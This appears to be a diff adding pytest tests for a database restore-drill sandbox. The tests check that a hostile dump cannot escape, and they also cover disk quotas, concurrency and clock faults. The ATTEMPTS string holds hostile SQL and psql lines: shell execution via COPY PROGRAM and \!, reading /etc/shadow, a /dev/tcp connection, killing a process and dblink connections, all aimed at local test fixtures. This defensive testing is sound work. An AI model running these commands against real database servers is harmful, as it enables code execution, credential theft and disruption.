@@ -1,0 +1,165 @@
+"""A dump runs code when it is restored, and here it tries to get out. Full disks; drills at once."""
+
+import os
+import socket
+import subprocess
+import sys
+import threading
+from dataclasses import replace
+
+import pytest
+
+from agent.drills.journal import desk
+
+# Everything that a superuser of the scratch server can do: programs, files, functions, psql's own commands.
+ATTEMPTS = r"""
+CREATE TABLE got (line text);
+CREATE TABLE tried (what text);
+CREATE FUNCTION try(sql text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN
+  EXECUTE sql; INSERT INTO tried VALUES ('DONE ' || sql); EXCEPTION WHEN OTHERS THEN
+  INSERT INTO tried VALUES (SQLERRM); END $$;
+SELECT try($$COPY (SELECT 'written') TO PROGRAM 'cat > {outside}/by_program'$$);
+\! echo by_psql > {outside}/by_psql
+\! (id; ls -A /drill; cat /etc/shadow {secret}; ls {outside}; ps ax) > /drill/tmp/seen 2>&1
+\! (exec 3<>/dev/tcp/127.0.0.1/{port}; echo hello >&3) 2>>/drill/tmp/seen
+\! kill -9 {pid} 2>>/drill/tmp/seen
+COPY got FROM PROGRAM 'cat /drill/tmp/seen; cat {secret} 2>&1; true';
+SELECT try($$SELECT pg_read_file('{secret}')$$);
+SELECT try($$CREATE EXTENSION dblink$$);
+SELECT try($$SELECT dblink_connect('host=127.0.0.1 port={port} connect_timeout=3')$$);
+SELECT try($$SELECT dblink_connect('host={outside} dbname=postgres')$$);
+\! mkdir /drill/tmp/shut && chmod 000 /drill/tmp/shut /drill/tmp
+"""
+SHOWN = "(SELECT coalesce(string_agg(line, ' '), '') FROM got) AS s (t)"
+ASKED = {
+    "read": f"SELECT count(*) FROM {SHOWN} WHERE t LIKE '%not-the-cell%'",
+    "processes": f"SELECT count(*) FROM {SHOWN} WHERE t LIKE '%bystander%'",
+    "done": "SELECT count(*) FROM tried WHERE what LIKE 'DONE %' AND what NOT LIKE '%EXTENSION%'",
+    "extension": "SELECT count(*) FROM pg_extension WHERE extname = 'dblink'",
+    "ran": f"SELECT count(*) FROM {SHOWN} WHERE t LIKE '%uid=%'",
+}
+WANTED = {"read": "0", "processes": "0", "done": "0", "extension": "1", "ran": "1"}
+
+
+@pytest.fixture
+def listener():
+    """A server of this machine that nobody may reach; what it heard."""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.settimeout(0.2)
+        heard, over = [], threading.Event()
+
+        def listen():
+            while not over.is_set():
+                try:
+                    heard.append(server.accept()[0].close())
+                except TimeoutError:
+                    continue
+
+        thread = threading.Thread(target=listen)
+        thread.start()
+        yield server.getsockname()[1], heard
+        over.set()
+        thread.join()
+
+
+def test_a_dump_that_runs_code_reaches_no_network_no_file_and_no_process(site, tmp_path, listener):
+    port, heard = listener
+    outside = tmp_path / "outside"
+    outside.mkdir(mode=0o777)
+    outside.chmod(0o777)
+    secret = tmp_path / "secret"
+    secret.write_text("everybody may read this: not-the-cell\n")
+    tmp_path.chmod(0o755)
+    with subprocess.Popen([sys.executable, "-c", "input()", "bystander"], stdin=subprocess.PIPE) as bystander:
+        text = ATTEMPTS.format(outside=outside, secret=secret, port=port, pid=bystander.pid)
+        (tmp_path / "hostile.sql").write_text(text)
+        asked = [{"id": name, "sql": sql, "expected": WANTED[name]} for name, sql in ASKED.items()]
+        seen = site.drill(tmp_path / "hostile.sql", compare="none", questions=asked)
+        assert bystander.poll() is None
+        bystander.communicate(b"\n")
+    assert list(outside.iterdir()) == []
+    assert heard == []
+    assert [(one.id, one.trouble, one.got == one.expected) for one in seen.one.questions] == [
+        (name, "", True) for name in ASKED
+    ]
+    assert site.left() == []
+
+
+def test_a_dump_that_switches_errors_off_is_not_believed(site, tmp_path):
+    text = "CREATE TABLE t (a int);\n\\set ON_ERROR_STOP 0\nCOMMIT;\nINSERT INTO t VALUES ('x');\n"
+    (tmp_path / "quiet.sql").write_text(text)
+    seen = site.drill(tmp_path / "quiet.sql", compare="none")
+    assert seen.said("restorable") == ("crit", "restore_failed")
+
+
+def test_a_disk_that_fills_up_ends_the_drill_and_says_so(site, source, tmp_path):
+    if os.geteuid():
+        pytest.skip("NOT TESTED: mounting a tmpfs needs root")
+    small = tmp_path / "small"
+    small.mkdir()
+    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=30m", "tmpfs", small], check=False).returncode:
+        pytest.skip("NOT TESTED: this machine lets nobody mount a tmpfs")
+    try:
+        site.given = replace(site.given, directory=str(small))
+        seen = site.drill(source / "custom.dump")
+        assert seen.said("restorable") == ("unknown", "no_room")
+        assert list(small.iterdir()) == []
+    finally:
+        subprocess.run(["umount", small], check=True)
+    seen.kept("unknown_no_room")
+
+
+def test_a_dump_that_grows_past_the_quota_is_stopped(site, tmp_path):
+    site.given = replace(site.given, quota_mb=100)
+    fill = "INSERT INTO t SELECT repeat(md5(g::text), 30) FROM generate_series(1, 1000000) g;"
+    (tmp_path / "bomb.sql").write_text(f"CREATE TABLE t (a text);\n{fill}\n")
+    seen = site.drill(tmp_path / "bomb.sql")
+    assert seen.said("restorable") == ("unknown", "no_room")
+    assert site.left() == []
+
+
+def test_an_artefact_larger_than_the_quota_is_not_begun_with(site, source):
+    site.given = replace(site.given, quota_mb=1)
+    big = source.place / "big.dump"
+    with big.open("wb") as file:
+        file.truncate(2 << 20)
+    seen = site.drill(big)
+    assert seen.said("restorable") == ("unknown", "no_room")
+    assert seen.one.ended == "fetch"
+
+
+def test_of_two_drills_at_once_the_second_is_refused_and_says_why(site, source):
+    with desk(site.state):
+        seen = site.drill(source / "custom.dump")
+    assert seen.said("restorable") == ("unknown", "busy")
+    assert (seen.one.attempt, seen.one.phases) == (0, ())
+    seen.kept("unknown_busy")
+
+
+def test_where_the_network_cannot_be_cut_nothing_is_restored(site, source, monkeypatch, tmp_path):
+    # What stands in for the kernel's refusal: a first process that says it could not.
+    init = tmp_path / "init.py"
+    init.write_text(
+        'import socket\ns = socket.socket(fileno=0)\ns.recv(1)\ns.send(b\'{"failed": "unshare: no"}\')\n'
+    )
+    monkeypatch.setattr("agent.drills.cell._INIT", init)
+    seen = site.drill(source / "custom.dump")
+    assert seen.said("restorable") == ("unknown", "no_network_cut")
+    assert seen.one.target is None
+    init.write_text(
+        "import json, socket\ns = socket.socket(fileno=0)\nw = json.loads(s.recv(1 << 18))\n"
+        "up = {'interfaces': ['lo', 'eth0'], 'up': ['eth0'], 'refused': [], 'tried': ['a'], 'mode': 'root'}\n"
+        "s.send(json.dumps({'ready': {**up, 'uid': w['uid']}}).encode())\ns.recv(1)\n"
+    )
+    assert site.drill(source / "custom.dump").said("restorable") == ("unknown", "no_network_cut")
+    assert site.left() == []
+
+
+def test_a_clock_that_is_wrong_spoils_no_time(site, source, monkeypatch):
+    monkeypatch.setattr("time.time_ns", lambda: 1_000_000_000)  # 1970: before the dump was made
+    seen = site.drill(source / "custom.dump")
+    assert seen.said("restorable") == ("ok", "")
+    assert seen.one.rpo is None
+    assert 0 < seen.one.rto < seen.one.took < 60_000
+    ends = [phase.end for phase in seen.one.phases]
+    assert ends == sorted(ends)
